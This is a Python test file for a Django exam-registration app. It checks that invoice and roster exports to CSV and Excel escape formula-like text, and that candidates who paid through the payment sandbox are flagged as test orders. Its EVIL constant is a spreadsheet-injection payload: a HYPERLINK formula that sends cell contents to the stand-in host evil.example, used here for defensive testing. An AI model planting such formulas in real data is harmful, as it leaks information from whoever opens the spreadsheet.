"""What staff open in Excel or WPS (issue 12, items 1 and 8): text that looks like a formula is written
as text in every export, and candidates who paid through the sandbox are marked as test orders."""
import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from core.exports import safe_cell, safe_row
from exams.models import Area
from payments.models import Invoice, Order
from registration import rosters
from registration.rosters import HEADERS, RosterFilter
from tests.payments.conftest import ENTERPRISE, confirmed_enrollment
from tests.staff.conftest import make_candidate, staff_user

pytestmark = pytest.mark.django_db
COL = {name: i for i, name in enumerate(HEADERS)}
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.mark.parametrize("text", [EVIL, "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
def test_formula_like_text_becomes_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["济南某某认证咨询有限公司", "91370102MA3C4X8Y2K", "160.00", "", 42, None,
                                   Decimal("-1"), "a=b"])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value
    assert safe_row([value, EVIL]) == [value, "'" + EVIL]


def test_an_invoice_title_is_never_a_formula_in_the_invoice_export(client, exam, sittings):
    from payments import services

    candidate = make_candidate("韩梅梅")
    enrollment = confirmed_enrollment(candidate, exam, sittings, Area.objects.get(name="济南"),
                                      **{**ENTERPRISE, "invoice_title": EVIL})
    order = services.order_create(enrollment=enrollment, actor=candidate, provider="sandbox")
    services.payment_record(provider="sandbox", trade_no="SB1", order_number=order.number, amount=order.amount,
                            source="notify")
    invoice = Invoice.objects.get(order=order)
    assert invoice.title == EVIL  # stored as typed: only the export changes it
    client.force_login(staff_user("finance", groups=["association_staff"]))
    response = client.post(reverse("admin:payments_invoice_changelist"),
                           {"action": "export_csv", "index": "0", "_selected_action": [invoice.pk]})
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert table[1][table[0].index("抬头")] == "'" + EVIL


@pytest.fixture
def evil_area(world):
    Area.objects.filter(pk=world.areas["青岛"].pk).update(name=EVIL)
    return world


def test_roster_csv_and_xlsx_write_formula_like_text_as_text(evil_area, tmp_path):
    f = RosterFilter(exam_id=evil_area.exam.pk)
    with open(tmp_path / "r.csv", "w", encoding="utf-8", newline="") as stream:
        rosters.write_csv(stream, f, full_id_numbers=False)
    table = list(csv.reader(io.StringIO((tmp_path / "r.csv").read_text(encoding="utf-8-sig"))))
    assert {r[COL["考区"]] for r in table[1:] if r[COL["姓名"]] == "赵六"} == {"'" + EVIL}

    rosters.write_xlsx(tmp_path / "r.xlsx", f, full_id_numbers=False)
    sheet = load_workbook(tmp_path / "r.xlsx")["考生名单"]  # not read-only: cell types are kept
    cells = [row[COL["考区"]] for row in sheet.iter_rows(min_row=2) if row[COL["姓名"]].value == "赵六"]
    assert cells and all(c.data_type == "s" and c.value == "'" + EVIL for c in cells)


def test_roster_marks_candidates_who_paid_through_the_sandbox(world, tmp_path):
    for name, provider in (("张三", "sandbox"), ("李四", "alipay")):
        enrollment = world.paid[name]
        Order.objects.create(number=f"T{enrollment.pk:019d}", enrollment=enrollment, candidate=enrollment.candidate,
                             exam=world.exam, status="paid", provider=provider, amount=Decimal("160.00"),
                             area=enrollment.area, expires_at=timezone.now(), paid_at=timezone.now())
    with open(tmp_path / "r.csv", "w", encoding="utf-8", newline="") as stream:
        rosters.write_csv(stream, RosterFilter(exam_id=world.exam.pk), full_id_numbers=False)
    table = list(csv.reader(io.StringIO((tmp_path / "r.csv").read_text(encoding="utf-8-sig"))))
    assert table[0][-1] == "测试订单"
    marked = {r[COL["姓名"]] for r in table[1:] if r[COL["测试订单"]] == "是"}
    assert marked == {"张三"}
